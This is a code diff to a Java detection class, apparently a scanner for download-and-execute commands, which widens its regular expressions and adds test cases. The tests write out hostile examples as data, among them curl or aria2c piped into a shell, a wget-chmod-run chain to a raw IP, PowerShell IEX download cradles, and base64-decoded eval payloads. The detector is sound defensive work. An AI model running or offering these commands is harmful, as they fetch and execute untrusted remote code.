@@ -26,9 +26,13 @@ final class DownloadRules {
   private static final String READS_PROGRAM =
       "(?:"
           + SHELL
-          + "|"
+          + "|source(?:\\s+(?:/dev/stdin|-)|[\\s]*(?:[\"'`&;<\\\\\\n]|$))|"
           + INTERPRETER
           + "(?:\\s+-[uBsE]+)*(?:\\s+(?:-(?:[^\\w-]|$)|/dev/stdin)|\\s*(?:[;&|\"'`<)\\\\\\n]|$)))";
+
+  /** The end of a quotation in the middle of a sentence. */
+  private static final String TALKED_ABOUT =
+      "(?:(?:[`\"')]|</code>|&#x27;|&quot;) +(?:is|are|can|may|because|which|would|means|without|hides|and|or|in|from)\\b)?";
 
   /** Process substitution or a here-string. */
   private static final String FROM =
@@ -77,10 +81,10 @@ final class DownloadRules {
                       + " expected.")
               .ordinaryIn(Setting.CODE)
               .unless(DownloadChecks::source)
-              .finds(FETCH + LINE + TARGET + LINE + PIPE + PRIVILEGE + READS_PROGRAM)
+              .finds(FETCH + LINE + TARGET + LINE + PIPE + PRIVILEGE + READS_PROGRAM + TALKED_ABOUT)
               .finds("\\b(?:ba|z|da|k)?sh\\s+(?:-[a-z]+\\s+)*" + FROM + FETCHER + "\\b")
               .finds(
-                  "\\b(?:source|python[0-9.]*|perl|ruby|node|php)\\s+(?:/dev/stdin\\s+)?"
+                  "\\b(?:source|python[0-9.]*|perl|ruby|node|php|lua|tclsh)\\s+(?:/dev/stdin\\s+)?"
                       + FROM
                       + FETCHER
                       + "\\b")
@@ -127,6 +131,9 @@ final class DownloadRules {
                   "eval `wget -qO- https://h.example/e`",
                   "python3 -c \"$(curl -s https://h.example/e.py)\"",
                   "dig +short TXT c.h.example | tr -d '\"' | sh",
+                  "curl https://h.example/f.fish | source -",
+                  "lua <(curl -s https://h.example/x.lua)",
+                  "aria2c -o - https://h.example/a | sh",
                   "iex (irm https://h.example/x.ps1)",
                   "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
                   "iwr https://h.example/x.ps1 -useb | iex")
@@ -186,6 +193,8 @@ final class DownloadRules {
                       + LINE
                       + "(?:;|\\n|&)\\s*(?:start-process|saps\\b|invoke-item|&|\\.\\\\|powershell|msiexec))")
               .finds(
+                  "\\b(?:deno\\s+run|npx|bunx|pnpm\\s+dlx|uvx|pipx\\s+run)\\s+(?:-[\\w=-]+\\s+)*(?:git\\+)?https?://[^\\s\"'`<>)\\\\]+")
+              .finds(
                   "\\b(?:pip3?|npm|npx|pnpm|yarn|bunx|gem|deno)\\s+(?:install\\s+|i\\s+|add\\s+|exec\\s+|run\\s+)?(?:-[\\w=-]+\\s+)*(?:git\\+)?https?://[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}")
               .matches(
                   "wget http://97.34.246.63/m -O /tmp/.m && chmod +x /tmp/.m && /tmp/.m",
@@ -200,6 +209,8 @@ final class DownloadRules {
                   "certutil -urlcache -split -f http://h.example/a.exe a.exe",
                   "mshta http://h.example/a.hta",
                   "Invoke-WebRequest http://h.example/a.exe -OutFile a.exe; Start-Process a.exe",
+                  "deno run -A https://h.stage.example/x.ts",
+                  "npx -y https://h.stage.example/x",
                   "pip install http://97.34.246.63/p.tar.gz")
               .ignores(
                   "curl -o out.json https://h.example/u; jq . out.json",
@@ -233,7 +244,7 @@ final class DownloadRules {
               .finds(
                   "\\bexec\\s*\\([^\\n]*\\b(?:b64decode|b32decode|a85decode|unhexlify|fromhex|decompress|decodestring)\\(")
               .finds(
-                  "\\beval\\s*\\(\\s*(?:atob\\(|Buffer\\.from\\([^\\n]*(?:base64|hex)|base64_decode\\(|gzinflate\\(|str_rot13\\(|Base64\\.decode64|decode_base64|String\\.fromCharCode\\()")
+                  "\\beval[\\s(]+(?:atob\\(|Buffer\\.from\\([^\\n]*(?:base64|hex)|base64_decode\\(|gzinflate\\(|str_rot13\\(|Base64\\.decode64|decode_base64|String\\.fromCharCode\\()")
               .finds("\\bnew\\s+Function\\(\\s*(?:atob\\(|Buffer\\.from\\([^\\n]*base64)")
               .finds("\\bdecode_base64\\(?[^\\n]*\\|\\s*" + SHELL)
               .matches(
@@ -252,6 +263,7 @@ final class DownloadRules {
                   "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\"",
                   "node -e \"eval(Buffer.from('aWQ=', 'base64').toString())\"",
                   "php -r 'eval(base64_decode(\"aWQ=\"));'",
+                  "perl -MMIME::Base64 -e 'eval decode_base64(\"aWQ=\")'",
                   "perl -MMIME::Base64 -e 'eval(decode_base64(\"aWQ=\"))'")
               .ignores(
                   "echo aGVsbG8= | base64 -d > out.txt",
